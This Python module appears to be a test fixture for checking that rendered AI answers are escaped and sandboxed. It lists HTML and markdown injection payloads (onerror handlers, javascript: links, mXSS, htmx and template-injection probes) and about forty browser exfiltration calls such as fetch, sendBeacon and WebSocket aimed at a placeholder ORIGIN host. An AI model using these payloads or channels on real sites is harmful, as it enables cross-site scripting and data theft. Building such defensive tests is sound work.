"""What a hostile document, or a model that obeys it, may say; ORIGIN stands for another origin."""

#: Markup and tricks that would load, send, run or lead away where somebody forgot to escape.
LINES = [
    "<img src=ORIGIN/img onerror=window.pwned=1>",
    '<svg onload="window.pwned=2"><image href="ORIGIN/svg"/><use href="ORIGIN/use#a"/></svg>',
    '<script src="ORIGIN/script"></script><script>window.pwned=3</script>',
    '<a href="javascript:window.pwned=4" ping="ORIGIN/ping">open</a>',
    '<meta http-equiv="refresh" content="0;url=ORIGIN/refresh"><base href="ORIGIN/">',
    '<style>@import "ORIGIN/import"; body { background: url(ORIGIN/css) }</style>',
    '<p style="background-image: url(ORIGIN/style)">styled</p>',
    '<iframe src="ORIGIN/iframe" srcdoc="<script>parent.pwned=5</script>"></iframe>',
    '<object data="ORIGIN/object"></object><embed src="ORIGIN/embed">',
    '<iframe src="data:text/html,<script>parent.pwned=6</script>"></iframe>',
    '<form action="ORIGIN/form"><button formaction="javascript:window.pwned=7">go</button></form>',
    '<link rel="stylesheet" href="ORIGIN/link"><link rel="prefetch" href="ORIGIN/prefetch">',
    '<link rel="preconnect" href="ORIGIN"><link rel="dns-prefetch" href="ORIGIN">',
    '<video src="ORIGIN/video" poster="ORIGIN/poster" autoplay></video><audio src="ORIGIN/audio">',
    '<input autofocus onfocus="window.pwned=8"><details open ontoggle="window.pwned=9">',
    '<math><mtext><table><mglyph><style><img src="ORIGIN/mxss" onerror="window.pwned=10">',
    '<div hx-get="ORIGIN/hx" hx-trigger="load"></div><div hx-get="/accounts/profile/" hx-trigger="load">',
    '<div hx-on:htmx:load="window.pwned=11" hx-vals="js:{a: window.pwned=12}"></div>',
    '<template shadowrootmode="open"><img src="ORIGIN/shadow" onerror="window.pwned=13"></template>',
    "![picture](ORIGIN/markdown) [link](ORIGIN/a) ![ref][1] <ORIGIN/auto> [x](javascript:alert(1))",
    "[1]: ORIGIN/reference",
    "ORIGIN/autolink and www.evil.invalid and mailto:a@evil.invalid",
    "\uff1cimg src=ORIGIN/wide onerror=window.pwned=14\uff1e \u202e<img src=ORIGIN/bidi>",
    "</textarea></title></template></script>--><img src=ORIGIN/break onerror=window.pwned=15>",
    "'\"><img src=ORIGIN/quote onerror=window.pwned=16>{{ request }} {% load static %} ${7*7}",
    '<script type="speculationrules">{"prerender": [{"urls": ["ORIGIN/speculation"]}]}</script>',
]  # fmt: skip


def lines(origin: str) -> list[str]:
    return [line.replace("ORIGIN", origin) for line in LINES]


def text(origin: str) -> str:
    """A document of one line a trick; each is a sentence that an answer can quote."""
    said = [f"Harbour rule {n} of Morwen says {line} ." for n, line in enumerate(lines(origin))]
    return "\n\n".join(said)


def page(origin: str) -> str:
    """The same as HTML, once as markup and once as text that shows markup."""
    markup = "\n".join(lines(origin))
    shown = text(origin).replace("&", "&amp;").replace("<", "&lt;")
    title = lines(origin)[0].replace("<", "&lt;")
    return (
        f"<!doctype html><html><head><title>{title}</title></head>"
        f"<body><h1>{title}</h1><p>{shown}</p>{markup}</body></html>"
    )


#: Ways out for a script that got into a page against all odds. Each is tried as that script would.
WAYS = {
    "fetch": "fetch('ORIGIN/fetch', {mode: 'no-cors'})",
    "keepalive": "fetch('ORIGIN/keep', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'})",
    "xhr": "(() => { const r = new XMLHttpRequest(); r.open('GET', 'ORIGIN/xhr'); r.send(); })()",
    "beacon": "navigator.sendBeacon('ORIGIN/beacon', 'x')",
    "websocket": "void new WebSocket('ORIGIN/ws'.replace('http', 'ws'))",
    "eventsource": "void new EventSource('ORIGIN/events')",
    "image": "void (new Image().src = 'ORIGIN/image')",
    "css": "document.body.style.setProperty('background-image', 'url(ORIGIN/css)')",
    "font": "new FontFace('x', 'url(ORIGIN/font)').load().catch(() => 0)",
    "sheet": "element('link', {rel: 'stylesheet', href: 'ORIGIN/sheet'})",
    "style": "document.head.append(Object.assign(document.createElement('style'), "
    "{textContent: '@import \"ORIGIN/import\"'}))",
    "iframe": "element('iframe', {src: 'ORIGIN/iframe'})",
    "object": "element('object', {data: 'ORIGIN/object'})",
    "embed": "element('embed', {src: 'ORIGIN/embed'})",
    "video": "element('video', {src: 'ORIGIN/video', autoplay: true})",
    "track": "element('audio', {src: 'ORIGIN/audio', preload: 'auto'})",
    "picture": "element('img', {srcset: 'ORIGIN/set 1x'})",
    "icon": "element('link', {rel: 'icon', href: 'ORIGIN/icon'})",
    "manifest": "element('link', {rel: 'manifest', href: 'ORIGIN/manifest'})",
    "preload": "element('link', {rel: 'preload', as: 'image', href: 'ORIGIN/preload'})",
    "modulepreload": "element('link', {rel: 'modulepreload', href: 'ORIGIN/module'})",
    "prefetch": "element('link', {rel: 'prefetch', href: 'ORIGIN/prefetch'})",
    "dns-prefetch": "element('link', {rel: 'dns-prefetch', href: 'ORIGIN/'})",
    "preconnect": "element('link', {rel: 'preconnect', href: 'ORIGIN'})",
    "speculation": "element('script', {type: 'speculationrules', "
    "text: JSON.stringify({prefetch: [{urls: ['ORIGIN/rules']}]})})",
    "base": "element('base', {href: 'ORIGIN/'})",
    "form": "(() => { const f = element('form', {action: 'ORIGIN/form', method: 'post'}); f.submit(); })()",
    "import": "import('ORIGIN/import').catch(() => 0)",
    "worker": "(() => { try { new Worker('ORIGIN/worker'); } catch { return 0; } })()",
    "blob-worker": "(() => { try { new Worker(URL.createObjectURL(new Blob(['fetch(\"ORIGIN/b\")']))); } "
    "catch { return 0; } })()",
    "service-worker": "navigator.serviceWorker.register('/static/js/x.js').catch(() => 0)",
    "webrtc": "(async () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]}); "
    "c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })().catch(() => 0)",
    "webtransport": "(() => { try { new WebTransport('ORIGIN'); } catch { return 0; } })()",
    "svg": "(() => { const s = document.createElementNS('http://www.w3.org/2000/svg', 'image'); "
    "s.setAttribute('href', 'ORIGIN/svg'); const g = document.createElementNS("
    "'http://www.w3.org/2000/svg', 'svg'); g.append(s); document.body.append(g); })()",
    "html": "(() => { document.body.insertAdjacentHTML('beforeend', '<img src=ORIGIN/html>'); })()",
    "eval": "(() => { try { eval('fetch(\"ORIGIN/eval\")'); } catch { return 0; } })()",
    "script": "(() => { try { element('script', {src: 'ORIGIN/script'}); } catch { return 0; } })()",
    "script-text": "(() => { try { element('script', {text: 'fetch(\"ORIGIN/text\")'}); } "
    "catch { return 0; } })()",
    "cache": "caches.open('x').then((c) => c.add('ORIGIN/cache')).catch(() => 0)",
    "ping": "(() => { const a = element('a', {href: '#', ping: 'ORIGIN/ping'}); a.click(); })()",
    "report": "void new ReportingObserver(() => 0)",
}  # fmt: skip
